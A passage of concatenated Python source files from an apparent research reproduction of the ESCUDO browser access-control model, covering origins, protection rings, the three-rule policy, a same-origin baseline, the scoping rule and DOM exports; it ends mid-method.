    def security_context(self) -> SecurityContext:
        """The object's security context (satisfies :class:`Protected`)."""
        return self.context

    @property
    def label(self) -> str:
        """Display label used in access decisions."""
        base = self.description or self.context.label
        return f"{base} ({self.kind.value})"

    @property
    def ring(self):
        """The object's protection ring."""
        return self.context.ring

    @property
    def origin(self):
        """The object's origin."""
        return self.context.origin

    @property
    def acl(self):
        """The object's ACL."""
        return self.context.acl

    def __str__(self) -> str:
        return self.label


def browser_state_object(context: SecurityContext, name: str) -> ProtectedObject:
    """Build a browser-state object.

    Browser state is *mandatorily* assigned to ring 0 and is not configurable
    by the application, so the supplied context's ring is ignored in favour
    of the most privileged ring.
    """
    return ProtectedObject(
        kind=ObjectKind.BROWSER_STATE,
        context=context.with_ring(0).with_label(name),
        description=name,
        configurable=False,
    )


def taxonomy() -> dict[str, dict[str, object]]:
    """Machine-readable rendering of the object half of Table 1."""
    return {
        ObjectKind.DOM_ELEMENT.value: {
            "examples": ["div", "p", "form", "script (as object)"],
            "dual_role": True,
            "configurable": True,
        },
        ObjectKind.COOKIE.value: {
            "examples": ["session cookie", "preference cookie"],
            "dual_role": False,
            "configurable": True,
        },
        ObjectKind.NATIVE_API.value: {
            "examples": list(NATIVE_APIS),
            "dual_role": False,
            "configurable": True,
        },
        ObjectKind.BROWSER_STATE.value: {
            "examples": list(BROWSER_STATE_OBJECTS),
            "dual_role": False,
            "configurable": False,
        },
    }
