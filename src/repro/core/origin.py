"""Web origins.

The same-origin policy -- and ESCUDO's origin rule -- identify an
application's origin as the unique combination of ``(protocol, domain,
port)``.  This module provides the :class:`Origin` value type used by both
the ESCUDO policy and the same-origin-policy baseline, plus lenient parsing
from URL strings.

Default ports follow the usual scheme conventions (http → 80, https → 443) so
that ``http://example.com`` and ``http://example.com:80`` compare equal, as
real browsers treat them.
"""

from __future__ import annotations

from dataclasses import dataclass

from .errors import ConfigurationError

#: Default port per scheme, used when a URL omits the port.
DEFAULT_PORTS = {
    "http": 80,
    "https": 443,
    "ws": 80,
    "wss": 443,
    "ftp": 21,
}


@dataclass(frozen=True)
class Origin:
    """An immutable ``(protocol, domain, port)`` triple."""

    scheme: str
    host: str
    port: int

    def __post_init__(self) -> None:
        if not self.scheme:
            raise ConfigurationError("origin scheme must not be empty")
        if not self.host:
            raise ConfigurationError("origin host must not be empty")
        if not isinstance(self.port, int) or isinstance(self.port, bool) or self.port <= 0:
            raise ConfigurationError(f"origin port must be a positive int, got {self.port!r}")
        object.__setattr__(self, "scheme", self.scheme.lower())
        object.__setattr__(self, "host", self.host.lower())

    # -- construction ---------------------------------------------------------

    @classmethod
    def parse(cls, url: str) -> "Origin":
        """Parse the origin out of an absolute URL.

        Only the scheme, host and port are considered; the path, query and
        fragment are irrelevant to the origin.  Raises
        :class:`~repro.core.errors.ConfigurationError` for URLs without a
        scheme or host.
        """
        if not isinstance(url, str) or not url.strip():
            raise ConfigurationError(f"cannot parse origin from {url!r}")
        text = url.strip()
        if "://" not in text:
            raise ConfigurationError(f"URL {url!r} has no scheme; cannot derive an origin")
        scheme, _, rest = text.partition("://")
        authority = rest.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
        if "@" in authority:
            authority = authority.rsplit("@", 1)[1]
        if not authority:
            raise ConfigurationError(f"URL {url!r} has no host; cannot derive an origin")
        host, _, port_text = authority.partition(":")
        scheme = scheme.lower()
        if port_text:
            try:
                port = int(port_text, 10)
            except ValueError as exc:
                raise ConfigurationError(f"URL {url!r} has a malformed port") from exc
        else:
            port = DEFAULT_PORTS.get(scheme, 80)
        return cls(scheme=scheme, host=host, port=port)

    @classmethod
    def of(cls, scheme: str, host: str, port: int | None = None) -> "Origin":
        """Build an origin, defaulting the port from the scheme."""
        if port is None:
            port = DEFAULT_PORTS.get(scheme.lower(), 80)
        return cls(scheme=scheme, host=host, port=port)

    # -- queries ---------------------------------------------------------------

    def same_origin_as(self, other: "Origin") -> bool:
        """The same-origin test: scheme, host and port must all match."""
        return self == other

    def url_prefix(self) -> str:
        """Canonical ``scheme://host[:port]`` prefix for building URLs."""
        default = DEFAULT_PORTS.get(self.scheme)
        if default == self.port:
            return f"{self.scheme}://{self.host}"
        return f"{self.scheme}://{self.host}:{self.port}"

    def __str__(self) -> str:
        return self.url_prefix()
