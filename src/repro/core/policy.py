"""The ESCUDO mandatory access-control policy.

Section 4.2 of the paper defines the policy: an access request ``<P ▷ O>``
is permitted if and only if *all three* of the following rules permit it.

1. **Origin rule** -- ``origin(P) == origin(O)``.
2. **Ring rule**   -- ``ring(P) <= ring(O)`` (the principal must be at least
   as privileged as the object).
3. **ACL rule**    -- ``ring(P) <= acl(O, op)`` (the principal must be at
   least as privileged as the outermost ring the object's ACL permits for
   the requested operation).

Two policy classes implement a common interface so experiments can swap the
enforcement model in an otherwise identical browser:

* :class:`EscudoPolicy` -- the paper's model (all three rules).
* :class:`repro.core.sop.SameOriginPolicy` -- the legacy baseline (origin
  rule only), defined in its own module.

Policies are pure functions over security contexts: they do not mutate any
state, which makes them easy to property-test (see
``tests/core/test_policy_properties.py``).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Iterable

from .context import SecurityContext
from .decision import (
    AccessDecision,
    Operation,
    Rule,
    RuleOutcome,
    Verdict,
)


@dataclass(frozen=True)
class AccessRequest:
    """A fully described access request ``<P ▷ O>``.

    The request captures the *contexts* of the principal and object rather
    than the live entities, so that policies stay decoupled from the
    substrate types (DOM elements, cookies, API handles).
    """

    principal: SecurityContext
    target: SecurityContext
    operation: Operation
    principal_label: str = ""
    object_label: str = ""

    def describe_principal(self) -> str:
        """Label used for the principal in decisions."""
        return self.principal_label or self.principal.label

    def describe_object(self) -> str:
        """Label used for the object in decisions."""
        return self.object_label or self.target.label


#: Monotonic source of per-policy-instance cache tokens (never reused, so a
#: decision cache shared by monitors with different policies can never serve
#: one policy's verdict for another -- even across instance lifetimes).
_POLICY_TOKENS = itertools.count()


def reserve_policy_tokens(minimum: int) -> None:
    """Guarantee future tokens are drawn at or above ``minimum``.

    Needed when policy instances (with their already-materialised tokens)
    arrive from *another process* -- e.g. a warm compile-cache snapshot
    shipped to a ``spawn``-started worker, whose own counter restarts at
    zero.  Without the reservation a locally built policy could draw a token
    a shipped policy already owns, and a shared decision cache keyed on the
    token would serve one policy's verdicts for the other.  Tokens skipped
    by the reservation are simply never issued; uniqueness is all that
    matters.
    """
    global _POLICY_TOKENS
    current = next(_POLICY_TOKENS)
    _POLICY_TOKENS = itertools.count(max(current, minimum))


class Policy:
    """Interface shared by every browser protection model in the reproduction."""

    #: Short machine-readable name recorded in every decision.
    name: str = "abstract"

    @property
    def cache_token(self) -> int:
        """Unique, stable identity of this policy instance for cache keys.

        Two policy objects never share a token (a fresh one is drawn from a
        process-wide counter on first use), so decisions cached under one
        policy -- including ablation variants that share a ``name`` -- can
        never be returned for another.
        """
        token = self.__dict__.get("_cache_token")
        if token is None:
            token = next(_POLICY_TOKENS)
            self.__dict__["_cache_token"] = token
        return token

    def evaluate(self, request: AccessRequest) -> AccessDecision:
        """Evaluate one access request and return a decision."""
        raise NotImplementedError

    def permits(
        self, principal: SecurityContext, target: SecurityContext, operation: Operation
    ) -> bool:
        """Cheap verdict check: the allow/deny answer without the explanation.

        :meth:`evaluate` materialises per-rule :class:`RuleOutcome` tuples
        with human-readable detail strings -- the *explanation* of a
        decision, needed for audits and denial reports.  The verdict alone is
        much cheaper; subclasses override this with an allocation-free rule
        walk.  It exists for policy-level queries that need no audit trail
        (capability introspection, what-if checks); the reference monitor's
        own fast path is the decision cache, which memoises the fully
        explained decision instead.  ``permits`` and ``evaluate`` must always
        agree -- the cache-correctness tests certify the parity.
        """
        request = AccessRequest(principal=principal, target=target, operation=operation)
        return self.evaluate(request).allowed

    # Convenience wrapper used pervasively in tests and examples.
    def check(
        self,
        principal: SecurityContext,
        target: SecurityContext,
        operation: Operation | str,
        *,
        principal_label: str = "",
        object_label: str = "",
    ) -> AccessDecision:
        """Evaluate an access described by raw contexts and an operation name."""
        op = operation if isinstance(operation, Operation) else Operation.from_text(operation)
        request = AccessRequest(
            principal=principal,
            target=target,
            operation=op,
            principal_label=principal_label,
            object_label=object_label,
        )
        return self.evaluate(request)


@dataclass
class EscudoPolicy(Policy):
    """The three-rule ESCUDO policy.

    Parameters
    ----------
    enforce_origin_rule / enforce_ring_rule / enforce_acl_rule:
        Individual rules can be switched off for the ablation benchmarks
        (``benchmarks/bench_ablation_*.py``); the default enables all three,
        which is the model the paper evaluates.
    """

    enforce_origin_rule: bool = True
    enforce_ring_rule: bool = True
    enforce_acl_rule: bool = True
    name: str = field(default="escudo")

    def evaluate(self, request: AccessRequest) -> AccessDecision:
        outcomes: list[RuleOutcome] = []
        principal = request.principal
        target = request.target

        if self.enforce_origin_rule:
            outcomes.append(_origin_outcome(principal, target))
        if self.enforce_ring_rule:
            outcomes.append(_ring_outcome(principal, target))
        if self.enforce_acl_rule:
            outcomes.append(_acl_outcome(principal, target, request.operation))

        verdict = Verdict.ALLOW if all(o.passed for o in outcomes) else Verdict.DENY
        return AccessDecision(
            verdict=verdict,
            operation=request.operation,
            principal_label=request.describe_principal(),
            object_label=request.describe_object(),
            outcomes=tuple(outcomes),
            policy=self.name,
        )

    def permits(
        self, principal: SecurityContext, target: SecurityContext, operation: Operation
    ) -> bool:
        """Allocation-free verdict: the three rules without their explanations."""
        if self.enforce_origin_rule and not principal.trusted:
            if not principal.origin.same_origin_as(target.origin):
                return False
        ring = principal.ring
        if self.enforce_ring_rule and not ring.is_at_least_as_privileged_as(target.ring):
            return False
        if self.enforce_acl_rule and not ring.is_at_least_as_privileged_as(
            target.acl.limit_for(operation)
        ):
            return False
        return True


def _origin_outcome(principal: SecurityContext, target: SecurityContext) -> RuleOutcome:
    """Evaluate the origin rule.

    Browser-internal (trusted) principals are exempt: the browser itself must
    be able to maintain its own state regardless of which page is loaded.
    Page content never gets a trusted context.
    """
    if principal.trusted:
        return RuleOutcome(Rule.ORIGIN, True, "browser-internal principal")
    same = principal.origin.same_origin_as(target.origin)
    detail = f"{principal.origin} vs {target.origin}"
    return RuleOutcome(Rule.ORIGIN, same, detail)


def _ring_outcome(principal: SecurityContext, target: SecurityContext) -> RuleOutcome:
    """Evaluate the ring rule: ``R(P) <= R(O)``."""
    passed = principal.ring.is_at_least_as_privileged_as(target.ring)
    detail = f"R(P)={principal.ring.level} R(O)={target.ring.level}"
    return RuleOutcome(Rule.RING, passed, detail)


def _acl_outcome(
    principal: SecurityContext, target: SecurityContext, operation: Operation
) -> RuleOutcome:
    """Evaluate the ACL rule: ``R(P) <= acl(O, op)``."""
    limit = target.acl.limit_for(operation)
    passed = principal.ring.is_at_least_as_privileged_as(limit)
    detail = f"R(P)={principal.ring.level} acl({operation.value})={limit.level}"
    return RuleOutcome(Rule.ACL, passed, detail)


def explain(decision: AccessDecision) -> str:
    """Render a multi-line human-readable explanation of a decision.

    Useful in examples and when debugging policy configurations.
    """
    lines = [str(decision)]
    for outcome in decision.outcomes:
        lines.append(f"  - {outcome}")
    return "\n".join(lines)


def evaluate_matrix(
    policy: Policy,
    principals: Iterable[tuple[str, SecurityContext]],
    objects: Iterable[tuple[str, SecurityContext]],
    operations: Iterable[Operation] = tuple(Operation),
) -> list[AccessDecision]:
    """Evaluate the full cross-product of principals × objects × operations.

    The benchmark harness uses this to regenerate the policy tables
    (Tables 3 and 5) as allow/deny matrices.
    """
    object_list = list(objects)
    operation_list = list(operations)
    decisions: list[AccessDecision] = []
    for principal_name, principal_ctx in principals:
        for object_name, object_ctx in object_list:
            for operation in operation_list:
                decisions.append(
                    policy.check(
                        principal_ctx,
                        object_ctx,
                        operation,
                        principal_label=principal_name,
                        object_label=object_name,
                    )
                )
    return decisions
