"""Principals: the acting entities inside a web page.

Table 1 of the paper classifies the principals a web application can control:

* **HTTP-request issuing principals** -- HTML tags (``a``, ``img``, ``form``,
  ``embed``, ``iframe``) that instruct the browser to issue an HTTP request.
* **Script-invoking principals** -- ``script`` elements, CSS expressions and
  UI event handler attributes (``onload``, ``onclick``, ...), all of which
  invoke the script interpreter.
* **Plugins** -- content-specific runtimes (Flash, PDF, ...).  They have
  their own security models and cannot be controlled by the web application,
  so the paper (and this reproduction) place them outside the model; the
  enum value exists so the taxonomy is complete and so the benchmark that
  regenerates Table 1 can print the full picture.

The browser itself also acts (fetching pages, writing history); such actions
use a :data:`PrincipalKind.BROWSER` principal with a trusted context.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Mapping

from .context import SecurityContext


class PrincipalKind(str, enum.Enum):
    """Classification of principals per Table 1."""

    HTTP_REQUEST_ISSUER = "http-request-issuing"
    SCRIPT = "script-invoking"
    UI_EVENT_HANDLER = "ui-event-handler"
    PLUGIN = "plugin"
    BROWSER = "browser-internal"

    @property
    def controllable(self) -> bool:
        """Whether the web application can control this class of principal."""
        return self is not PrincipalKind.PLUGIN

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


#: HTML tag names that act as HTTP-request issuing principals (Table 1).
HTTP_REQUEST_ISSUING_TAGS = frozenset({"a", "img", "form", "embed", "iframe"})

#: HTML constructs that act as script-invoking principals (Table 1).
SCRIPT_INVOKING_TAGS = frozenset({"script"})

#: Attribute names treated as UI event handlers.
UI_EVENT_ATTRIBUTES = frozenset(
    {
        "onload",
        "onclick",
        "onmouseover",
        "onmouseout",
        "onsubmit",
        "onchange",
        "onfocus",
        "onblur",
        "onkeydown",
        "onkeyup",
    }
)


@dataclass(frozen=True)
class Principal:
    """An acting entity with its security context.

    ``Principal`` instances are created by the browser when a principal is
    *instantiated* -- when a script starts executing, when an ``img`` tag is
    parsed and its fetch is about to be issued, when an event handler fires.
    The security context is captured at creation and is immutable.
    """

    kind: PrincipalKind
    context: SecurityContext
    description: str = ""

    @property
    def label(self) -> str:
        """Display label used in access decisions."""
        base = self.description or self.context.label
        return f"{base} ({self.kind.value})"

    @property
    def ring(self):
        """The principal's protection ring (shortcut for ``context.ring``)."""
        return self.context.ring

    @property
    def origin(self):
        """The principal's origin (shortcut for ``context.origin``)."""
        return self.context.origin

    def __str__(self) -> str:
        return self.label


def classify_tag(tag_name: str) -> PrincipalKind | None:
    """Classify an HTML tag as a principal kind, if it is one.

    Returns ``None`` for tags that are purely objects (ordinary content).
    """
    name = tag_name.lower()
    if name in SCRIPT_INVOKING_TAGS:
        return PrincipalKind.SCRIPT
    if name in HTTP_REQUEST_ISSUING_TAGS:
        return PrincipalKind.HTTP_REQUEST_ISSUER
    return None


def event_handler_attributes(attributes: Mapping[str, str]) -> dict[str, str]:
    """Extract UI event-handler attributes (name → handler source) from a tag."""
    return {
        name.lower(): value
        for name, value in attributes.items()
        if name.lower() in UI_EVENT_ATTRIBUTES
    }


def taxonomy() -> dict[str, dict[str, object]]:
    """Machine-readable rendering of the principal half of Table 1.

    Used by ``benchmarks/bench_table1_taxonomy.py`` and by documentation
    tests to keep the implemented taxonomy aligned with the paper.
    """
    return {
        PrincipalKind.HTTP_REQUEST_ISSUER.value: {
            "examples": sorted(HTTP_REQUEST_ISSUING_TAGS),
            "controllable": True,
        },
        PrincipalKind.SCRIPT.value: {
            "examples": sorted(SCRIPT_INVOKING_TAGS) + ["css-expression"],
            "controllable": True,
        },
        PrincipalKind.UI_EVENT_HANDLER.value: {
            "examples": sorted(UI_EVENT_ATTRIBUTES),
            "controllable": True,
        },
        PrincipalKind.PLUGIN.value: {
            "examples": ["flash", "silverlight", "pdf"],
            "controllable": False,
        },
    }
