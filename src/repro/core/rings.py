"""Hierarchical protection rings.

ESCUDO adapts Multics-style hierarchical protection rings (HPR) to web pages.
Each web page ("system") defines its own static set of rings labelled
``0 .. N`` where ring 0 is the *most* privileged and ring ``N`` the *least*
privileged.  The number of rings is application dependent; the paper's
examples use ``N = 3``.

This module provides:

* :class:`Ring` -- an immutable ring label with privilege-ordering helpers.
  Note the deliberate inversion: a *numerically smaller* ring is *more*
  privileged, so ``Ring(0).is_at_least_as_privileged_as(Ring(3))`` is true.
* :class:`RingSet` -- the per-page ring universe (``0 .. highest``), used to
  validate and clamp labels coming from untrusted markup.
* Module-level constants for the defaults the paper prescribes
  (:data:`DEFAULT_RING_COUNT`, :data:`MOST_PRIVILEGED`).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Iterator

from .errors import ConfigurationError, RingRangeError

#: Number of rings used throughout the paper's examples (rings 0..3).
DEFAULT_RING_COUNT = 4

#: Label of the most privileged ring.
MOST_PRIVILEGED = 0


@dataclass(frozen=True, order=False)
class Ring:
    """A single protection-ring label.

    ``Ring`` is a thin, immutable wrapper around the integer label.  It
    exists so that privilege comparisons read unambiguously at call sites:
    ``principal_ring.is_at_least_as_privileged_as(object_ring)`` instead of a
    bare ``<=`` whose direction is easy to get backwards.

    The natural integer ordering is still exposed (``Ring(1) < Ring(2)``)
    and means "numerically smaller", i.e. *more privileged*.
    """

    level: int

    def __post_init__(self) -> None:
        if not isinstance(self.level, int) or isinstance(self.level, bool):
            raise ConfigurationError(f"ring level must be an int, got {self.level!r}")
        if self.level < 0:
            raise ConfigurationError(f"ring level must be non-negative, got {self.level}")

    # -- privilege ordering -------------------------------------------------

    def is_at_least_as_privileged_as(self, other: "Ring | int") -> bool:
        """True when this ring has equal or greater privilege than ``other``.

        Per the HPR convention this means the numeric label is less than or
        equal to the other label.
        """
        return self.level <= _level_of(other)

    def is_more_privileged_than(self, other: "Ring | int") -> bool:
        """True when this ring has strictly greater privilege than ``other``."""
        return self.level < _level_of(other)

    def is_less_privileged_than(self, other: "Ring | int") -> bool:
        """True when this ring has strictly less privilege than ``other``."""
        return self.level > _level_of(other)

    # -- combination helpers -------------------------------------------------

    def restricted_to(self, outer: "Ring | int") -> "Ring":
        """Clamp this ring so it is never more privileged than ``outer``.

        Used by the scoping rule: a child element labelled ``ring=1`` inside
        a scope labelled ``ring=2`` is effectively in ring 2.
        """
        return Ring(max(self.level, _level_of(outer)))

    def elevated_to(self, inner: "Ring | int") -> "Ring":
        """Return the more privileged of the two rings."""
        return Ring(min(self.level, _level_of(inner)))

    # -- dunder conveniences --------------------------------------------------

    def __int__(self) -> int:
        return self.level

    def __lt__(self, other: "Ring | int") -> bool:
        return self.level < _level_of(other)

    def __le__(self, other: "Ring | int") -> bool:
        return self.level <= _level_of(other)

    def __gt__(self, other: "Ring | int") -> bool:
        return self.level > _level_of(other)

    def __ge__(self, other: "Ring | int") -> bool:
        return self.level >= _level_of(other)

    def __str__(self) -> str:
        return f"ring {self.level}"

    def __repr__(self) -> str:
        return f"Ring({self.level})"


def _level_of(value: "Ring | int") -> int:
    """Return the integer level of a ``Ring`` or plain integer."""
    if isinstance(value, Ring):
        return value.level
    if isinstance(value, bool) or not isinstance(value, int):
        raise ConfigurationError(f"expected Ring or int, got {value!r}")
    if value < 0:
        raise ConfigurationError(f"ring level must be non-negative, got {value}")
    return value


def as_ring(value: "Ring | int") -> Ring:
    """Coerce an integer or ``Ring`` into a ``Ring`` instance."""
    if isinstance(value, Ring):
        return value
    return Ring(_level_of(value))


class RingSet:
    """The universe of rings available to one web page.

    A ``RingSet`` is created per page ("system") from the application's
    configuration, defaulting to the paper's four rings (0..3).  It validates
    labels arriving from markup or HTTP headers and provides the safe
    defaults prescribed by the paper:

    * :meth:`least_privileged` -- default ring for unlabelled DOM content;
    * :meth:`most_privileged` -- default ring for cookies, native APIs and
      browser state.
    """

    def __init__(self, highest: int = DEFAULT_RING_COUNT - 1) -> None:
        if not isinstance(highest, int) or isinstance(highest, bool):
            raise ConfigurationError(f"highest ring must be an int, got {highest!r}")
        if highest < 0:
            raise ConfigurationError("a ring set needs at least ring 0")
        self._highest = highest

    # -- basic queries --------------------------------------------------------

    @property
    def highest_level(self) -> int:
        """Numeric label of the least privileged ring."""
        return self._highest

    @property
    def count(self) -> int:
        """Total number of rings (``highest_level + 1``)."""
        return self._highest + 1

    def most_privileged(self) -> Ring:
        """Ring 0."""
        return Ring(MOST_PRIVILEGED)

    def least_privileged(self) -> Ring:
        """Ring ``N`` -- the fail-safe default for unlabelled DOM content."""
        return Ring(self._highest)

    def __contains__(self, value: "Ring | int") -> bool:
        try:
            level = _level_of(value)
        except ConfigurationError:
            return False
        return 0 <= level <= self._highest

    def __iter__(self) -> Iterator[Ring]:
        return (Ring(level) for level in range(self.count))

    def __len__(self) -> int:
        return self.count

    def __eq__(self, other: object) -> bool:
        return isinstance(other, RingSet) and other._highest == self._highest

    def __repr__(self) -> str:
        return f"RingSet(highest={self._highest})"

    # -- validation and clamping ----------------------------------------------

    def validate(self, value: "Ring | int") -> Ring:
        """Return ``value`` as a :class:`Ring`, raising if out of range."""
        ring = as_ring(value)
        if ring not in self:
            raise RingRangeError(
                f"{ring} outside ring universe 0..{self._highest}"
            )
        return ring

    def clamp(self, value: "Ring | int") -> Ring:
        """Return ``value`` clamped into the ring universe.

        Out-of-range labels are clamped towards *less* privilege (the safe
        direction): anything above the highest ring becomes the least
        privileged ring.
        """
        ring = as_ring(value)
        if ring.level > self._highest:
            return self.least_privileged()
        return ring

    def parse_label(self, text: str | None, *, default: "Ring | None" = None) -> Ring:
        """Parse a ring label from untrusted markup text.

        Follows the fail-safe-defaults guideline: missing, empty, or
        malformed labels fall back to ``default`` (or the least privileged
        ring when no default is given); numeric labels beyond the highest
        ring are clamped to the least privileged ring.
        """
        fallback = default if default is not None else self.least_privileged()
        if text is None:
            return fallback
        text = text.strip()
        if not text:
            return fallback
        try:
            level = int(text, 10)
        except ValueError:
            return fallback
        if level < 0:
            return fallback
        return self.clamp(level)

    def spanning(self, rings: Iterable["Ring | int"]) -> "RingSet":
        """Build a ring set wide enough to contain every ring in ``rings``."""
        highest = self._highest
        for ring in rings:
            highest = max(highest, _level_of(ring))
        return RingSet(highest)
