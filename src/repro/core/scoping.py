"""The scoping rule.

Section 5 of the paper: to stop a principal from *creating* a new principal
with elevated privilege, ESCUDO enforces a scoping rule -- every child of a
DOM element is bounded by the ring of its enclosing AC scope.  If a ``div``
is labelled ``ring=n``, then everything inside that scope (including nested
AC tags that *claim* a lower ring number) is effectively at ring ``n`` or
less privileged.  The rule applies both to statically parsed markup and to
elements added dynamically through the DOM API.

This module provides the pure clamping arithmetic plus a strict auditing
helper that reports violations (useful for application developers validating
their templates) without changing enforcement behaviour.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Iterator, Protocol, Sequence, runtime_checkable

from .errors import ScopingViolation
from .rings import Ring, as_ring


def effective_ring(declared: Ring | int | None, enclosing: Ring | int) -> Ring:
    """Compute the ring a scope actually receives.

    ``declared`` is the ring the markup (or a script) asked for; ``enclosing``
    is the ring of the surrounding scope.  Per the scoping rule the result is
    never more privileged than ``enclosing``; a missing declaration simply
    inherits the enclosing ring.
    """
    outer = as_ring(enclosing)
    if declared is None:
        return outer
    return as_ring(declared).restricted_to(outer)


def is_violation(declared: Ring | int | None, enclosing: Ring | int) -> bool:
    """True when a declared label claims more privilege than its scope allows."""
    if declared is None:
        return False
    return as_ring(declared).is_more_privileged_than(as_ring(enclosing))


@dataclass(frozen=True)
class ScopingViolationReport:
    """One detected attempt to exceed the enclosing scope's privilege."""

    path: str
    declared: Ring
    enclosing: Ring
    clamped_to: Ring

    def __str__(self) -> str:
        return (
            f"{self.path}: declared ring {self.declared.level} exceeds enclosing "
            f"ring {self.enclosing.level}; clamped to ring {self.clamped_to.level}"
        )


@runtime_checkable
class LabeledScope(Protocol):
    """Minimal tree shape the auditing walker understands.

    DOM elements satisfy this protocol; so do the lightweight fixtures used
    in unit tests.  ``declared_ring`` is the ring the node's markup asked for
    (``None`` when unlabelled) and ``children`` yields nested scopes.
    """

    @property
    def declared_ring(self) -> Ring | None:  # pragma: no cover - protocol
        ...

    @property
    def scope_path(self) -> str:  # pragma: no cover - protocol
        ...

    def child_scopes(self) -> Sequence["LabeledScope"]:  # pragma: no cover - protocol
        ...


def audit_tree(root: LabeledScope, page_ring: Ring | int) -> list[ScopingViolationReport]:
    """Walk a labelled tree and report every scoping violation.

    Enforcement never needs this (clamping happens inline during labelling);
    it exists so application developers and the ablation benchmarks can see
    where templates over-claim privilege.
    """
    reports: list[ScopingViolationReport] = []
    _audit(root, as_ring(page_ring), reports)
    return reports


def _audit(node: LabeledScope, enclosing: Ring, reports: list[ScopingViolationReport]) -> None:
    declared = node.declared_ring
    clamped = effective_ring(declared, enclosing)
    if declared is not None and is_violation(declared, enclosing):
        reports.append(
            ScopingViolationReport(
                path=node.scope_path,
                declared=as_ring(declared),
                enclosing=enclosing,
                clamped_to=clamped,
            )
        )
    for child in node.child_scopes():
        _audit(child, clamped, reports)


def require_within_scope(declared: Ring | int | None, enclosing: Ring | int, *, path: str = "") -> Ring:
    """Strict variant of :func:`effective_ring` that raises on violations.

    Server-side template tooling uses this to reject misconfigured templates
    before they ever reach a browser.
    """
    if is_violation(declared, enclosing):
        raise ScopingViolation(
            f"{path or 'scope'}: ring {as_ring(declared).level} is more privileged than "
            f"enclosing ring {as_ring(enclosing).level}"
        )
    return effective_ring(declared, enclosing)


def clamp_chain(declared_labels: Iterable[Ring | int | None], page_ring: Ring | int) -> Iterator[Ring]:
    """Yield effective rings for a chain of nested scopes, outermost first.

    Convenience used in tests and in the labelling engine: each element of
    ``declared_labels`` is the ring declared at that nesting depth.
    """
    current = as_ring(page_ring)
    for declared in declared_labels:
        current = effective_ring(declared, current)
        yield current
