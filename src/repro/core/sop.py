"""The same-origin policy baseline.

The paper's comparison point -- and ESCUDO's backward-compatibility mode --
is the classic same-origin policy (SOP): an access is allowed whenever the
principal and object share an origin, defined as the unique
``(protocol, domain, port)`` triple.  Under the SOP every principal of a page
effectively runs with the full privileges of the page's origin, which is
exactly the failure of least privilege the paper argues against.

The baseline is implemented with the same :class:`~repro.core.policy.Policy`
interface as :class:`~repro.core.policy.EscudoPolicy`, so the browser
substrate, attack harness and benchmarks can switch models with a single
constructor argument.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .context import SecurityContext
from .decision import AccessDecision, Operation, Rule, RuleOutcome, Verdict
from .policy import AccessRequest, Policy


@dataclass
class SameOriginPolicy(Policy):
    """Origin-rule-only protection model (the legacy baseline)."""

    name: str = field(default="same-origin")

    def evaluate(self, request: AccessRequest) -> AccessDecision:
        outcome = _origin_only_outcome(request.principal, request.target)
        verdict = Verdict.ALLOW if outcome.passed else Verdict.DENY
        return AccessDecision(
            verdict=verdict,
            operation=request.operation,
            principal_label=request.describe_principal(),
            object_label=request.describe_object(),
            outcomes=(outcome,),
            policy=self.name,
        )

    def permits(
        self, principal: SecurityContext, target: SecurityContext, operation: Operation
    ) -> bool:
        """Allocation-free verdict: the lone origin rule, no explanation."""
        return principal.trusted or principal.origin.same_origin_as(target.origin)


def _origin_only_outcome(principal: SecurityContext, target: SecurityContext) -> RuleOutcome:
    """Evaluate the lone SOP rule, with the browser-internal exemption."""
    if principal.trusted:
        return RuleOutcome(Rule.ORIGIN, True, "browser-internal principal")
    same = principal.origin.same_origin_as(target.origin)
    return RuleOutcome(Rule.ORIGIN, same, f"{principal.origin} vs {target.origin}")


def escudo_collapses_to_sop(decision_escudo: AccessDecision, decision_sop: AccessDecision) -> bool:
    """Check the backward-compatibility claim for a pair of decisions.

    For legacy (unconfigured) pages, every entity lands in a single ring with
    a uniform ACL, so the ESCUDO verdict must equal the SOP verdict for every
    request.  The compatibility benchmark asserts this over full
    principal × object × operation matrices.
    """
    return decision_escudo.verdict is decision_sop.verdict
