"""DOM substrate: the tree, traversal, events and the mediated DOM API."""

from .document import Document
from .dom_api import DomApi, DomApiStats, ElementHandle
from .element import RAW_TEXT_ELEMENTS, VOID_ELEMENTS, Element
from .events import SUPPORTED_EVENT_TYPES, Event, EventDispatcher, nodes_with_inline_handlers
from .node import CommentNode, Node, NodeType, TextNode
from .traversal import (
    Selector,
    SimpleSelector,
    elements_in_rings,
    find_all,
    find_first,
    parse_selector,
    query_selector,
    query_selector_all,
    walk_elements,
)

__all__ = [
    "CommentNode",
    "Document",
    "DomApi",
    "DomApiStats",
    "Element",
    "ElementHandle",
    "Event",
    "EventDispatcher",
    "Node",
    "NodeType",
    "RAW_TEXT_ELEMENTS",
    "SUPPORTED_EVENT_TYPES",
    "Selector",
    "SimpleSelector",
    "TextNode",
    "VOID_ELEMENTS",
    "elements_in_rings",
    "find_all",
    "find_first",
    "nodes_with_inline_handlers",
    "parse_selector",
    "query_selector",
    "query_selector_all",
    "walk_elements",
]
