"""The Document node.

A :class:`Document` is the root of one parsed page.  It records the URL and
origin the page was loaded from, provides element factories (used both by
the parser and by the mediated DOM API), and offers the usual lookup helpers
(``get_element_by_id``, ``get_elements_by_tag_name``).
"""

from __future__ import annotations

from typing import Iterator, Optional

from repro.core.origin import Origin

from .element import Element
from .node import CommentNode, Node, NodeType, TextNode


class Document(Node):
    """Root node of a parsed web page."""

    node_type = NodeType.DOCUMENT

    def __init__(self, url: str = "about:blank") -> None:
        super().__init__()
        self.url = url
        self.owner_document = self
        self.doctype: str | None = None
        # Lazy id -> element index (first occurrence in document order).
        # ``getElementById`` is the hottest DOM query of the script and
        # attack-predicate workloads; structural mutations and ``id``
        # attribute writes drop the index (see Node/Element hooks), so it can
        # never serve a stale element.
        self._id_index: dict[str, Element] | None = None

    # -- cloning -------------------------------------------------------------------

    def clone(self, *, owner=None) -> "Document":
        """Deep copy of the whole document tree.

        Every node in the copy is a fresh object owned by the cloned
        document; the result is structurally equal to re-parsing the
        document's serialisation, and mutating either tree never affects the
        other.  This is the fast path the HTML template cache uses to serve
        one parsed tree to many page loads.  ``owner`` is ignored -- a
        document owns itself.
        """
        copy = type(self).__new__(type(self))
        copy.parent = None
        copy.children = []
        copy.url = self.url
